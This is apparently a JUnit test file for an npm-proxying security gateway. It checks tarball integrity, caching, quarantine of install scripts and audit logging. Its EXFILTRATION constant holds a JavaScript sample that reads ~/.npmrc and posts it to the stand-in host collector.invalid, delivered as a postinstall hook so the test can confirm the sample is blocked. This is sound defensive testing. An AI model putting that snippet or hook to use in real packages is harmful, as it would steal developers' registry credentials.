package dev.gatehouse.proxy.npm;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.gatehouse.proxy.testing.TestClock;
import dev.gatehouse.proxy.testing.TestGatehouse;
import java.io.IOException;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Tarballs under /npm/ through the gate: verified against the packument's integrity, analyzed, decided. */
class NpmTarballTest {
  private static final Instant NOW = Instant.parse("2024-06-01T12:00:00Z");
  /** Inert: the host cannot resolve, and nothing here is ever run. */
  static final String EXFILTRATION = """
      const fs = require('fs');
      const os = require('os');
      const path = require('path');
      const https = require('https');
      const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
      const req = https.request({ hostname: 'collector.invalid', method: 'POST', path: '/t' });
      req.end(token);
      """;

  @TempDir Path tmp;
  private final ObjectMapper mapper = new ObjectMapper();
  private FakeNpmRegistry upstream;
  private TestGatehouse gatehouse;

  @BeforeEach
  void start() throws Exception {
    upstream = new FakeNpmRegistry(tmp);
    upstream.version("left-pad", "1.0.0").publishedAt(Instant.parse("2024-01-01T00:00:00Z")).publish();
    upstream.version("@acme/util", "3.0.0").publish();
    gatehouse = TestGatehouse.builder(tmp).npm(upstream.url())
        .clock(TestClock.at(NOW)).upstreamReads("10s", 0).start();
  }

  @AfterEach
  void stop() throws Exception {
    gatehouse.close();
    upstream.close();
  }

  @Test
  void aBenignTarballIsVerifiedAnalyzedAndServedByteForByteThenFromTheBlobStore() throws Exception {
    HttpResponse<byte[]> first = gatehouse.getBytes("/npm/left-pad/-/left-pad-1.0.0.tgz");
    HttpResponse<byte[]> second = gatehouse.getBytes("/npm/left-pad/-/left-pad-1.0.0.tgz");

    assertThat(first.statusCode()).isEqualTo(200);
    assertThat(first.headers().firstValue("Content-Type")).hasValue("application/octet-stream");
    assertThat(first.body()).isEqualTo(upstream.tarball("left-pad", "1.0.0"));
    assertThat(second.body()).isEqualTo(first.body());
    assertThat(upstream.requestsFor("/left-pad/-/left-pad-1.0.0.tgz")).isEqualTo(1);
  }

  @Test
  void aTarballFetchedBeforeIsServedAfterARestartWhileTheUpstreamIsDown() throws Exception {
    byte[] first = gatehouse.getBytes("/npm/@acme/util/-/util-3.0.0.tgz").body();
    gatehouse.close();
    upstream.goDown();
    gatehouse = TestGatehouse.builder(tmp).npm(upstream.url())
        .clock(TestClock.at(NOW)).upstreamReads("10s", 0).start();

    HttpResponse<byte[]> again = gatehouse.getBytes("/npm/@acme/util/-/util-3.0.0.tgz");
    HttpResponse<String> unseen = gatehouse.get("/npm/left-pad/-/left-pad-1.0.0.tgz");

    assertThat(again.statusCode()).isEqualTo(200);
    assertThat(again.body()).isEqualTo(first);
    assertThat(unseen.statusCode()).isEqualTo(502);
    assertThat(mapper.readTree(unseen.body()).path("error").asText())
        .startsWith("Gatehouse could not fetch the packument of left-pad and has no earlier copy");
  }

  @Test
  void aScopedTarballIsServedUnderEitherEncodingOfTheScope() throws Exception {
    HttpResponse<byte[]> plain = gatehouse.getBytes("/npm/@acme/util/-/util-3.0.0.tgz");
    HttpResponse<byte[]> escaped = gatehouse.getBytes("/npm/@acme%2futil/-/util-3.0.0.tgz");

    assertThat(plain.statusCode()).isEqualTo(200);
    assertThat(plain.body()).isEqualTo(upstream.tarball("@acme/util", "3.0.0"));
    assertThat(escaped.body()).isEqualTo(plain.body());
  }

  @Test
  void aTarballWhoseBytesDoNotMatchTheIntegrityIsRefusedAndNothingIsCached() throws Exception {
    upstream.version("left-pad", "1.1.0").publish();
    upstream.tamper("left-pad", "1.1.0");

    HttpResponse<String> first = gatehouse.get("/npm/left-pad/-/left-pad-1.1.0.tgz");
    HttpResponse<String> second = gatehouse.get("/npm/left-pad/-/left-pad-1.1.0.tgz");

    assertThat(first.statusCode()).isEqualTo(403);
    assertThat(mapper.readTree(first.body()).path("error").asText())
        .startsWith("left-pad@1.1.0 (left-pad-1.1.0.tgz) blocked by Gatehouse rule digest-mismatch")
        .contains("sha512", "but the registry publishes");
    assertThat(second.statusCode()).isEqualTo(403);
    assertThat(upstream.requestsFor("/left-pad/-/left-pad-1.1.0.tgz")).isEqualTo(2);
    assertThat(blobs()).isEmpty();
  }

  @Test
  void aTarballWithOnlyAShasumIsVerifiedAgainstItsSha1() throws Exception {
    upstream.version("old-pkg", "0.1.0").withoutIntegrity().publish();
    upstream.version("old-pkg", "0.2.0").withoutIntegrity().publish();
    upstream.tamper("old-pkg", "0.2.0");

    HttpResponse<byte[]> good = gatehouse.getBytes("/npm/old-pkg/-/old-pkg-0.1.0.tgz");
    HttpResponse<String> tampered = gatehouse.get("/npm/old-pkg/-/old-pkg-0.2.0.tgz");

    assertThat(good.statusCode()).isEqualTo(200);
    assertThat(tampered.statusCode()).isEqualTo(403);
    assertThat(mapper.readTree(tampered.body()).path("error").asText()).contains("by Gatehouse rule digest-mismatch", "sha1");
  }

  @Test
  void aFileThatNoVersionPublishesIs404() throws Exception {
    HttpResponse<String> response = gatehouse.get("/npm/left-pad/-/left-pad-7.0.0.tgz");

    assertThat(response.statusCode()).isEqualTo(404);
    assertThat(mapper.readTree(response.body()).path("error").asText())
        .isEqualTo("no version of left-pad in the upstream packument has a tarball named \"left-pad-7.0.0.tgz\"");
    assertThat(upstream.requestsFor("/left-pad/-/left-pad-7.0.0.tgz")).isZero();
  }

  @Test
  void anInstallScriptThatSendsNpmrcAwayIsBlockedAndItsVersionLeavesThePackument() throws Exception {
    upstream.version("left-pad", "1.1.0").script("postinstall", "node collect.js").file("collect.js", EXFILTRATION)
        .publish();

    HttpResponse<String> tarball = gatehouse.get("/npm/left-pad/-/left-pad-1.1.0.tgz");
    JsonNode doc = mapper.readTree(gatehouse.get("/npm/left-pad").body());

    assertThat(tarball.statusCode()).isEqualTo(403);
    String error = mapper.readTree(tarball.body()).path("error").asText();
    assertThat(error).startsWith("left-pad@1.1.0 (left-pad-1.1.0.tgz) blocked by Gatehouse rule exfiltration")
        .contains("scripts.postinstall", "network", "credential-file read");
    assertThat(doc.path("versions").fieldNames()).toIterable().containsExactly("1.0.0");
    assertThat(doc.path("dist-tags").path("latest").asText()).isEqualTo("1.0.0");
  }

  @Test
  void aQuarantinedTarballNamesItsQuarantineIdAndHowToAskForApproval() throws Exception {
    upstream.version("left-pad", "1.2.0").script("postinstall", "node build.js")
        .file("build.js", "require('child_process').execSync('make all');\n").publish();

    HttpResponse<String> tarball = gatehouse.get("/npm/left-pad/-/left-pad-1.2.0.tgz");

    assertThat(tarball.statusCode()).isEqualTo(403);
    assertThat(mapper.readTree(tarball.body()).path("error").asText())
        .startsWith("left-pad@1.2.0 (left-pad-1.2.0.tgz) quarantined by Gatehouse rule install-time-code, "
            + "quarantine id q-");
    assertThat(mapper.readTree(tarball.body()).path("detail").asText()).contains("quarantine id: ", "/api/v1/quarantine/");
  }

  @Test
  void aVersionThatAddsAnInstallScriptItsPredecessorsLackedIsQuarantinedOnThePackumentsHistory() throws Exception {
    upstream.version("left-pad", "1.1.0").publishedAt(Instant.parse("2024-02-01T00:00:00Z")).publish();
    upstream.version("left-pad", "1.2.0").publishedAt(Instant.parse("2024-03-01T00:00:00Z"))
        .script("install", "node-gyp rebuild").file("binding.gyp", "{\"targets\": []}\n").publish();

    HttpResponse<String> tarball = gatehouse.get("/npm/left-pad/-/left-pad-1.2.0.tgz");

    assertThat(tarball.statusCode()).isEqualTo(403);
    assertThat(mapper.readTree(tarball.body()).path("error").asText())
        .startsWith("left-pad@1.2.0 (left-pad-1.2.0.tgz) quarantined by Gatehouse rule version-change");
    assertThat(mapper.readTree(tarball.body()).path("detail").asText())
        .contains("1.2.0 adds an install script (install: node-gyp rebuild) that 1.1.0 and 1.0.0 did not have");
  }

  @Test
  void everyTarballRequestIsAuditedWithItsPackageVersionAndVerdict() throws Exception {
    gatehouse.getBytes("/npm/left-pad/-/left-pad-1.0.0.tgz");

    JsonNode event = auditEvent("left-pad");

    assertThat(event.path("ecosystem").asText()).isEqualTo("npm");
    assertThat(event.path("version").asText()).isEqualTo("1.0.0");
    assertThat(event.path("file").asText()).isEqualTo("left-pad-1.0.0.tgz");
    assertThat(event.path("decision").asText()).isEqualTo("allow");
    assertThat(event.path("status").asInt()).isEqualTo(200);
    assertThat(event.path("sha256").asText())
        .isEqualTo(FakeNpmRegistry.hex("SHA-256", upstream.tarball("left-pad", "1.0.0")));
  }

  /** The newest audit event for a tarball of {@code name}; the audit log writes in the background. */
  private JsonNode auditEvent(String name) throws Exception {
    long deadline = System.nanoTime() + Duration.ofSeconds(10).toNanos();
    while (System.nanoTime() < deadline) {
      JsonNode events = mapper.readTree(gatehouse.get("/api/v1/audit?ecosystem=npm&package=" + name,
          "Authorization", "Bearer " + TestGatehouse.ADMIN_TOKEN).body()).path("events");
      for (JsonNode event : events) {
        if (!event.path("file").isNull()) {
          return event;
        }
      }
    }
    throw new AssertionError("no audit event for a tarball of " + name + " within 10 s");
  }

  private java.util.List<Path> blobs() throws IOException {
    try (Stream<Path> files = Files.walk(gatehouse.dataDir().resolve("blobs"))) {
      return files.filter(Files::isRegularFile).toList();
    }
  }
}
